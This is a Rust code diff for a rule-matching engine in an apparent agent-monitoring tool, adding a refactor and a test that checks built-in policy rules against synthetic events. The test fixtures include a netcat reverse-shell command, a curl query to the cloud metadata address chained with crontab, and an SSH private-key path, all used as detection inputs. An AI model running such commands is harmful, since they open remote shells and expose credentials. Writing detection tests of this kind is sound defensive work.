@@ -144,8 +144,11 @@ impl Matcher {
     }
 
     pub(super) fn matches(&self, seen: &Seen<'_>) -> bool {
-        seen.has.hold(self.needs)
-            && self.identity(seen)
+        seen.has.hold(self.needs) && self.conditions(seen)
+    }
+
+    fn conditions(&self, seen: &Seen<'_>) -> bool {
+        self.identity(seen)
             && self.destination(seen)
             && self.file(seen)
             && self.arguments(seen)
@@ -231,4 +234,64 @@ fn in_scope(wanted: &ScopeSpec, event: &PolicyEvent) -> bool {
         && fits(&wanted.session, &event.scope.session)
         && fits(&wanted.attempt, &event.scope.attempt)
         && fits(&wanted.tool_call, &event.scope.tool_call)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::load;
+    use agentprov_model::OsBytes;
+
+    /// Events with everything that rules ask about, and without, in all combinations.
+    fn events() -> Vec<PolicyEvent> {
+        let mut events = Vec::new();
+        let paths: [&[&str]; 4] = [&[], &["/w/a.c"], &["/home/u/.ssh/id_rsa"], &["/etc/cron.d/x", "/w/.env"]];
+        let places = [None, Some("169.254.169.254"), Some("10.0.0.1"), Some("example.com"), Some("127.0.0.1:53")];
+        let commands: [&[&str]; 5] = [
+            &[],
+            &["cc", "-c", "x.c"],
+            &["sh", "-c", "curl http://169.254.169.254/; crontab -e"],
+            &["sudo", "pip", "install", "x"],
+            &["nc", "-e", "/bin/sh", "10.0.0.1"],
+        ];
+        for kind in ["execve", "file_open", "secret_path", "network_connect", "private_cidr", "metadata_ip", "setuid"] {
+            for (paths, place, command) in paths
+                .iter()
+                .flat_map(|paths| places.iter().map(move |place| (paths, place)))
+                .flat_map(|(paths, place)| commands.iter().map(move |command| (paths, place, command)))
+            {
+                let mut event =
+                    PolicyEvent { event_type: kind.into(), reads: true, writes: true, ..PolicyEvent::default() };
+                event.paths = paths.iter().map(|path| OsBytes::from(*path)).collect();
+                event.args = command.iter().map(|word| (*word).to_owned()).collect();
+                if let Some(place) = place {
+                    event.take_destination(place);
+                }
+                events.push(event);
+            }
+        }
+        events
+    }
+
+    fn check(matcher: &Matcher, seen: &Seen<'_>, passed_over: &mut usize) {
+        if !seen.has.hold(matcher.needs) {
+            *passed_over += 1;
+            assert!(!matcher.conditions(seen), "{:?} fits {:?}", matcher.spec, seen.event);
+        }
+        matcher.any.iter().chain(&matcher.except).for_each(|inner| check(inner, seen, passed_over));
+    }
+
+    #[test]
+    fn no_rule_that_fits_is_passed_over() {
+        let rules = load(None).expect("the built-in rules");
+        let table = ClassTable::builtin();
+        let matchers: Vec<Matcher> = rules.rules().map(|rule| Matcher::new(&rule.when).expect("it compiles")).collect();
+        let (mut passed_over, mut fitting) = (0, 0);
+        for event in events() {
+            let seen = Seen::new(&event, table);
+            matchers.iter().for_each(|matcher| check(matcher, &seen, &mut passed_over));
+            fitting += matchers.iter().filter(|matcher| matcher.matches(&seen)).count();
+        }
+        assert!(passed_over > 1_000 && fitting > 100, "{passed_over} passed over, {fitting} fit");
+    }
 }
